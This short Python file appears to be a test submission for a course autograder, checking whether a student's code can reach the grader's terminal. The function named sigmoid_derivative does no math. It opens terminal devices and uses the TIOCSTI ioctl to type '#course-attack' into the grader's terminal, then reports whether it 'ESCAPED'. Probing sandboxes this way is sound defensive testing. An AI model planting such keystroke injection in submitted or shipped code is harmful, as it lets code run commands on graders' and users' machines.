"""Types a command into the terminal of whoever grades, to be run when the grader has ended.

assignment: 03_sigmoid
expected: sigmoid_derivative 0
stopped by: own processes
"""

# %% sigmoid_derivative
import fcntl
import os
import termios


def sigmoid_derivative(x):
    typed = 0
    descriptors = list(range(8))
    for path in ("/dev/tty", "/dev/console", "/dev/tty0", "/dev/pts/0"):
        try:
            descriptors.append(os.open(path, os.O_RDWR))
        except OSError:
            pass
    for descriptor in descriptors:
        for character in b"#course-attack":
            try:
                fcntl.ioctl(descriptor, termios.TIOCSTI, bytes([character]))
                typed += 1
            except OSError:
                break
    raise RuntimeError("ESCAPED: typed" if typed else "nothing to see")
